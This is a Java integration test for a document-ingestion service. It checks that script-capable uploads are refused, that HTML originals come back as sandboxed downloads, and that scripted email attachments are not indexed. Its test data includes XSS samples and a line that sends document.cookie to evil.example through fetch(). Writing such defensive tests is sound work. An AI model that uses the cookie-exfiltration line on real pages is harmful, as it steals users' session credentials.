package com.verity.ingestion;

import static org.assertj.core.api.Assertions.assertThat;

import com.verity.support.IntegrationTest;
import com.verity.support.VerityApi;
import com.verity.support.VerityApi.Upload;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * What Verity takes and serves back cannot run script on its own origin: script-capable formats are
 * refused (an explicit list, not "any text"), markup originals are downloaded as bytes in a
 * sandbox, and attachments pass the same list as uploads.
 */
@IntegrationTest
@SuppressWarnings("unchecked")
class ServedContentSafetyTest {

    @Autowired VerityApi api;

    @Test
    void scriptAndSvgAreRefused() {
        String collection = api.newCollection("served");
        assertThat(
                        refusal(
                                collection,
                                "x.js",
                                "alert(document.cookie);\nfunction a() { return 1; }"))
                .containsEntry("status", 415)
                .containsEntry("type", "/problems/unsupported-content-type");
        assertThat(
                        refusal(
                                collection,
                                "x.svg",
                                "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">"
                                        + "<script>alert(1)</script></svg>"))
                .containsEntry("status", 415);
        assertThat(refusal(collection, "style.css", "body { color: red; }\n.a { margin: 0; }"))
                .containsEntry("status", 415);
    }

    @Test
    void markupOriginalsAreDownloadedAsBytesInASandbox() {
        String collection = api.newCollection("served");
        String html =
                "<html><head><title>Visitors</title></head><body><p>Visitors sign in at"
                        + " reception.</p><script>alert(1)</script></body></html>";
        Map<String, Object> document =
                api.accepted(
                                collection,
                                Upload.of("visitors.html", html.getBytes(StandardCharsets.UTF_8)))
                        .get(0);
        VerityApi.Reply<byte[]> content =
                api.getBytes("/api/documents/" + document.get("id") + "/content");
        assertThat(content.status().value()).isEqualTo(200);
        assertThat(content.headers().getContentType()).hasToString("application/octet-stream");
        assertThat(content.headers().getFirst("Content-Disposition")).startsWith("attachment");
        assertThat(content.headers().getFirst("Content-Security-Policy")).isEqualTo("sandbox");
        assertThat(content.headers().getFirst("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(new String(content.body(), StandardCharsets.UTF_8)).isEqualTo(html);
    }

    @Test
    void attachmentsPassTheSameListAsUploads() {
        String collection = api.newCollection("served");
        String mail =
                """
                From: facilities@example.com\r
                To: staff@example.com\r
                Subject: Reception rules\r
                MIME-Version: 1.0\r
                Content-Type: multipart/mixed; boundary="part"\r
                \r
                --part\r
                Content-Type: text/plain\r
                \r
                The garage opens at seven.\r
                --part\r
                Content-Type: text/plain; name="notes.txt"\r
                Content-Disposition: attachment; filename="notes.txt"\r
                \r
                Attached note: visitors sign in at reception with ATTACHEDCANARY.\r
                --part\r
                Content-Type: application/javascript; name="tracker.js"\r
                Content-Disposition: attachment; filename="tracker.js"\r
                \r
                var SCRIPTCANARY = document.cookie; fetch("https://evil.example/?" + SCRIPTCANARY);\r
                --part--\r
                """;
        Map<String, Object> document =
                api.accepted(
                                collection,
                                Upload.of("rules.eml", mail.getBytes(StandardCharsets.UTF_8)))
                        .get(0);
        assertThat(api.awaitSettled(document.get("id"))).containsEntry("status", "INDEXED");
        assertThat(api.search(collection, "ATTACHEDCANARY visitors", 5).toString())
                .contains("ATTACHEDCANARY");
        assertThat(api.search(collection, "SCRIPTCANARY cookie fetch", 5).toString())
                .doesNotContain("SCRIPTCANARY");
    }

    private Map<String, Object> refusal(String collection, String filename, String text) {
        VerityApi.Reply<Object> reply =
                api.upload(collection, Upload.of(filename, text.getBytes(StandardCharsets.UTF_8)));
        assertThat(api.get("/api/collections/" + collection + "/documents").body().get("content"))
                .isEqualTo(List.of());
        return (Map<String, Object>) reply.body();
    }
}
